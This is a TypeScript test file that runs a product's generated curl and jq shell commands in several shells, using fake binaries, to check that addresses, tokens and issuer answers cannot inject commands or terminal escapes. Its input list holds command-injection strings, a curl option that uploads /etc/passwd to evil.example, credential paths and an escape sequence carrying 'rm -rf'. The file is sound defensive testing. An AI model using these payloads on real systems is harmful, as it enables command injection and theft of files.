import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { curlCall } from '../core/code/write-curl.ts';
import { keySetCommand } from '../core/keys/key-set-command.ts';
import { metadataUrlsOf, readKeySetUrl } from '../core/keys/key-set-url.ts';

/*
 * Runs every command that the product writes for a shell, in each POSIX shell that is here. `curl`
 * and `jq` are replaced by programs that write down what they receive and answer what an attacker
 * would.
 */
const shells = ['sh', 'bash', 'zsh', 'ksh', 'busybox'].filter(
  (shell) => spawnSync(shell, shell === 'busybox' ? ['sh', '-c', ':'] : ['-c', ':']).status === 0,
);
const hasJq = spawnSync('jq', ['--version']).status === 0;

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'jotscope-shell-'));
  for (const name of ['fake', 'fake-jq', 'home']) mkdirSync(join(folder, name));
  program(
    'fake/curl',
    'for each; do printf \'%s\\0\' "$each"; done >>"$CALLS"\nprintf \'\\1\\0\' >>"$CALLS"\ncat >>"$INPUT"\nprintf %s "$ANSWER"\n',
  );
  program('fake-jq/jq', 'cat >/dev/null\nprintf \'%s\\n\' "$PICKED"\n');
});
afterAll(() => rmSync(folder, { recursive: true }));

function program(path: string, text: string): void {
  writeFileSync(join(folder, path), `#!/bin/sh\n${text}`);
  chmodSync(join(folder, path), 0o755);
}

type Around = { readonly answer?: string; readonly picked?: string; readonly env?: Readonly<Record<string, string>> };
type Ran = {
  readonly calls: readonly (readonly string[])[];
  readonly input: string;
  readonly left: readonly string[];
  readonly output: string;
};

/** `picked` is what jq prints; without it the real one runs. */
function run(shell: string, command: string, { answer = '', picked, env = {} }: Around): Ran {
  const [calls, input, home] = ['calls', 'input', 'home'].map((name) => join(folder, name));
  for (const file of [calls, input]) writeFileSync(file ?? '', '');
  const path = [join(folder, 'fake'), ...(picked === undefined ? [] : [join(folder, 'fake-jq')]), process.env.PATH];
  const { stdout } = spawnSync(shell, [...(shell === 'busybox' ? ['sh'] : []), '-c', command], {
    cwd: home,
    input: '',
    env: { HOME: home, PATH: path.join(':'), CALLS: calls, INPUT: input, ANSWER: answer, PICKED: picked, ...env },
  });
  return {
    calls: callsIn(readFileSync(calls ?? '', 'utf8')),
    input: readFileSync(input ?? '', 'utf8'),
    left: readdirSync(home ?? ''),
    output: stdout.toString(),
  };
}

const callsIn = (written: string): readonly (readonly string[])[] =>
  written
    .split('\u0001\0')
    .slice(0, -1)
    .map((call) => call.split('\0').slice(0, -1));

const keySetOptions = (protocols: string, url: string): readonly string[] => [
  '--fail',
  '--silent',
  '--show-error',
  '--globoff',
  '--proto',
  protocols,
  '--url',
  url,
];
const urlIn = (typed: string): string => {
  const read = readKeySetUrl(typed);
  if (read.kind !== 'url') throw new Error(`${typed}: ${read.kind}`);
  return read.url;
};

/** Quotes, line breaks, options, shell syntax and patterns. */
const hostileTexts = [
  '-o ../owned',
  '-F f=@/etc/passwd https://evil.example',
  '@/etc/passwd',
  "'; touch owned; '",
  '"; touch owned; "',
  '$(touch owned)',
  '`touch owned`',
  '${IFS}touch${IFS}owned',
  '| touch owned',
  '& touch owned &',
  'a\ntouch owned\n',
  '> owned',
  '*',
  '~/.ssh/id_rsa',
  '{a,b}[1-3]',
  String.raw`\'; touch owned`,
  '!!',
  '# x',
  '%s%n',
];
const hostile = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc
    .array(fc.constantFrom(...hostileTexts, "'", '"', '\\', '$', '`', '\n', ' ', '-', '(', ')', ';'), { maxLength: 4 })
    .map((texts) => texts.join('')),
);
const runs = { numRuns: 25 };

it('finds a shell to run commands in', () => {
  expect(shells).toContain('sh');
});

describe.each(shells)('in %s, the command that fetches a key set', (shell) => {
  it('passes the address as one argument, whatever is in it', () => {
    const address = fc.tuple(fc.constantFrom('https://a.example', 'http://localhost:8080'), hostile, hostile);
    fc.assert(
      fc.property(address, ([origin, path, query]) => {
        const url = urlIn(`${origin}/x${path.replaceAll('?', '')}?q=${query}`);
        const { calls, left } = run(shell, keySetCommand(url), {});
        const expected = url.replaceAll("'", '%27').replaceAll('\\', '%5C');
        expect(calls).toEqual([keySetOptions(url.startsWith('https') ? '=https' : '=http,https', expected)]);
        expect(left).toEqual([]);
      }),
      runs,
    );
  });

  it('passes what an issuer answers as the value of --url and nothing else', () => {
    const [metadata = ''] = metadataUrlsOf('https://issuer.example');
    fc.assert(
      fc.property(hostile, (picked) => {
        const { calls, left } = run(shell, keySetCommand(metadata), { picked });
        expect(calls).toEqual([
          keySetOptions('=https', metadata),
          // A shell removes line breaks from the end of a substituted output.
          keySetOptions('=https', picked.replace(/\n+$/, '')),
        ]);
        expect(left).toEqual([]);
      }),
      runs,
    );
  });

  it('prints nothing that a terminal would obey', () => {
    const answer = '{"keys":[\u001b]52;c;cm0gLXJm\u0007\u001b[2J\b\u007f]}\r\n\tüé';
    for (const url of ['https://a.example/jwks', metadataUrlsOf('https://issuer.example')[0] ?? ''])
      expect(run(shell, keySetCommand(url), { answer, picked: 'https://a.example/k' }).output).toBe(
        '{"keys":[]52;c;cm0gLXJm[2J]}\n\tüé\n',
      );
  });

  it('prints no control character of two bytes, also of broken UTF-8', () => {
    const printed = {
      '\u0080': '',
      '\u009b2J': '2J',
      '\u009d52;c;cm0gLXJm\u009c': '52;c;cm0gLXJm',
      '\u0085\u0085': '',
      '\u009b\u001b\u009b': '',
    };
    for (const [controls, left] of Object.entries(printed)) {
      const { output } = run(shell, keySetCommand('https://a.example/jwks'), { answer: `[${controls} € Â£ “ü”]\n` });
      expect(output).toBe(`[${left} € Â£ “ü”]\n`);
    }
    // What is removed must not leave a new one behind.
    const nested = "printf '[\\302\\302\\233\\033\\233\\302\\033\\233]'";
    const { output } = run(shell, `${nested}${keySetCommand('https://a.example/jwks').replace(/^.*?(?= \|)/, '')}`, {});
    expect(output).toBe('[]\n');
  });

  it.skipIf(!hasJq)('takes from the answer only an address that begins with https://', () => {
    const [metadata = ''] = metadataUrlsOf('https://issuer.example');
    const second = (answer: string): string | undefined =>
      run(shell, keySetCommand(metadata), { answer }).calls[1]?.at(-1);
    expect(second('{"jwks_uri":"https://a.example/keys"}')).toBe('https://a.example/keys');
    expect(second('{"jwks_uri":"https://a.example/k -o owned"}')).toBe('https://a.example/k -o owned');
    const refused = [...hostileTexts, 'file:///etc/passwd', 'http://a.example/', ['https://a.example'], null];
    expect(second(refused.map((text) => JSON.stringify({ jwks_uri: text })).join('\n'))).toBe('');
    expect(second('not JSON')).toBe('');
  });
});

describe.each(shells)('in %s, the command that calls an API', (shell) => {
  it('passes the address as one argument and the token as one header', () => {
    if (curlCall.kind !== 'code') throw new Error(curlCall.kind);
    const { text } = curlCall;
    fc.assert(
      fc.property(hostile, hostile, (token, address) => {
        const { calls, input, left } = run(shell, text, { env: { TOKEN: token, API_URL: address } });
        expect(calls).toEqual([['--fail-with-body', '--globoff', '--header', '@-', '--url', address]]);
        expect(input).toBe(`Authorization: Bearer ${token.replaceAll(/[\r\n]/g, '')}`);
        expect(left).toEqual([]);
      }),
      runs,
    );
  });
});
